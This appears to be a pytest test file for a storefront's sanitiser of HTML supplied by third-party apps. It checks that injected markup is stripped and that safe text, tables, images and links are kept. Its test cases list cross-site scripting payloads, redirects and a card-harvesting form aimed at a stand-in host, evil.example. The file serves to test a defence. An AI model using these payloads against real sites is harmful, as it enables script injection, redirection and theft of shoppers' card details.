"""Parsing and sanitising of apps' blocks (R-APP-22)."""

import json

import pytest

from storefront.apps.blocks import MAX_TAGS, NoBlock, parse_block, sanitised
from storefront.kit.outbound import Answer


def answer(said, *, status: int = 200, is_cut: bool = False) -> Answer:
    body = said if isinstance(said, bytes) else json.dumps(said).encode()
    return Answer(status, {}, body, is_cut, 0.1)


def test_the_block_is_the_answers_html():
    assert (
        parse_block(answer({"html": "<p>Wrapped as a <b>gift</b>?</p>", "more": 1}))
        == "<p>Wrapped as a <b>gift</b>?</p>"
    )


@pytest.mark.rule("R-APP-19")
@pytest.mark.parametrize("html", ["", "   ", "<div></div>", "<!-- nothing -->", "<script>alert(1)</script>"])
def test_invisible_html_is_an_empty_block(html):
    assert parse_block(answer({"html": html})) == ""


@pytest.mark.parametrize("status", [199, 300, 301, 400, 404, 500, 503])
def test_another_status_is_no_block(status):
    with pytest.raises(NoBlock, match=f"The app answered with status {status}."):
        parse_block(answer({"html": "<p>Hello</p>"}, status=status))


@pytest.mark.parametrize(
    ("said", "reason"),
    [
        (b"", "not JSON"),
        (b"<p>Hello</p>", "not JSON"),
        (b'{"html": "\xff"}', "not JSON"),
        (b"[" * 60_000, "not JSON"),
        (b'{"html": "<p>Hel', "not JSON"),
        ([], "not a JSON object"),
        ("<p>Hello</p>", "not a JSON object"),
        (None, "not a JSON object"),
        ({}, "not a JSON object"),
        ({"html": None}, "not a JSON object"),
        ({"html": 1}, "not a JSON object"),
        ({"html": ["<p>Hello</p>"]}, "not a JSON object"),
        ({"HTML": "<p>Hello</p>"}, "not a JSON object"),
        ({"html": "<ul><li>" * MAX_TAGS}, "more than 2,000 tags"),
    ],
)
def test_an_answer_without_html_in_json_is_no_block(said, reason):
    with pytest.raises(NoBlock, match=reason):
        parse_block(answer(said))


def test_an_answer_that_was_cut_off_is_no_block():
    with pytest.raises(NoBlock, match="larger than 64 KiB"):
        parse_block(answer(b" " * 65536, is_cut=True))


@pytest.mark.rule("R-APP-22")
@pytest.mark.parametrize(
    ("html", "shown"),
    [
        # Runs.
        ("<script>alert(1)</script>Hi", "Hi"),
        ("<SCRIPT SRC=https://evil.example/x.js></SCRIPT>Hi", "Hi"),
        ("<img src=x onerror=alert(1)>Hi", '<img referrerpolicy="no-referrer">Hi'),
        ("<p onclick='alert(1)' onmouseover=alert(1)>Hi</p>", "<p>Hi</p>"),
        ("<svg onload=alert(1)><script>alert(1)</script></svg>Hi", "Hi"),
        ("<svg><text>Pay here</text><style>p{color:red}</style></svg>Hi", "Hi"),
        ("<math><mtext><script>alert(1)</script></mtext></math>Hi", "Hi"),
        ("<iframe srcdoc='<script>alert(1)</script>'></iframe>Hi", "Hi"),
        ("<object data=x></object><embed src=x>Hi", "Hi"),
        ("<noscript><p title='</noscript><script>alert(1)</script>'></noscript>Hi", "'&gt;Hi"),
        ("<details open ontoggle=alert(1)><summary>Hi</summary></details>", "<details><summary>Hi</summary></details>"),
        # Addresses the page's own scripts.
        ("<div hx-get=/basket hx-trigger=load data-hx-post=/x>Hi</div>", "<div>Hi</div>"),
        ("<p data-picture=1 data-currency=EUR>Hi</p>", "<p>Hi</p>"),
        # Redirects, or changes base URLs.
        ("<meta http-equiv=refresh content='0;url=https://evil.example'>Hi", "Hi"),
        ("<base href=https://evil.example/>Hi", "Hi"),
        ("<link rel=stylesheet href=https://evil.example/x.css>Hi", "Hi"),
        # Asks for input that seems to go to the shop.
        ("<form action=https://evil.example/><input name=card><button>Pay</button></form>", "Pay"),
        ("<textarea>x</textarea><select><option>y</option></select>Hi", "Hi"),
        ("<button form=buy formaction=https://evil.example/>Hi</button>", "Hi"),
        # Covers the page, or imitates its elements.
        ("<style>body{display:none}</style>Hi", "Hi"),
        ("<div style='position:fixed;inset:0' class=notice id=content>Hi</div>", "<div>Hi</div>"),
        ("<a name=content id=messages>Hi</a>", '<a target="_blank" rel="noopener nofollow">Hi</a>'),
        ("<h1>Hi</h1><nav>there</nav>", "Hithere"),
        # Escapes its element.
        ("</div></section></main><p>Hi", "<p>Hi</p>"),
        ("<table><tr><td>Hi", "<table><tbody><tr><td>Hi</td></tr></tbody></table>"),
        ("<!-- <p>Hi", ""),
        # URLs.
        ("<a href='javascript:alert(1)'>Hi</a>", '<a target="_blank" rel="noopener nofollow">Hi</a>'),
        ("<a href='java&#10;script:alert(1)'>Hi</a>", '<a target="_blank" rel="noopener nofollow">Hi</a>'),
        ("<a href='data:text/html,hi'>Hi</a>", '<a target="_blank" rel="noopener nofollow">Hi</a>'),
        ("<a href='/admin/'>Hi</a>", '<a target="_blank" rel="noopener nofollow">Hi</a>'),
        ("<a href='//evil.example'>Hi</a>", '<a target="_blank" rel="noopener nofollow">Hi</a>'),
        ("<a href='http://app.example.com/t'>Hi</a>", '<a target="_blank" rel="noopener nofollow">Hi</a>'),
        ("<img src='http://a.example/i.png'>Hi", '<img referrerpolicy="no-referrer">Hi'),
        ("<img src='data:image/svg+xml,x'>Hi", '<img referrerpolicy="no-referrer">Hi'),
        ("<img srcset='http://a.example/i.png 2x'>Hi", '<img referrerpolicy="no-referrer">Hi'),
    ],
)
def test_removes_harmful_html(html, shown):
    assert sanitised(html) == shown


@pytest.mark.rule("R-APP-22")
@pytest.mark.parametrize(
    ("html", "shown"),
    [
        (
            '<a href="https://app.example.com/t" rel="opener" target="_top">Terms</a>',
            '<a href="https://app.example.com/t" target="_blank" rel="noopener nofollow">Terms</a>',
        ),
        (
            '<img src="https://app.example.com/i.png" alt="Ribbon" width="40" height="30">',
            '<img src="https://app.example.com/i.png" alt="Ribbon" width="40" height="30"'
            ' referrerpolicy="no-referrer">',
        ),
        ("<h3>Gift</h3><ul><li>Box</li></ul>", "<h3>Gift</h3><ul><li>Box</li></ul>"),
        ("<table><tbody><tr><td>1</td></tr></tbody></table>", "<table><tbody><tr><td>1</td></tr></tbody></table>"),
        ("Fünf &amp; <em>mehr</em> 🎁", "Fünf &amp; <em>mehr</em> 🎁"),
        ("&lt;script&gt;", "&lt;script&gt;"),
    ],
)
def test_keeps_text_tables_pictures_and_links(html, shown):
    assert sanitised(html) == shown
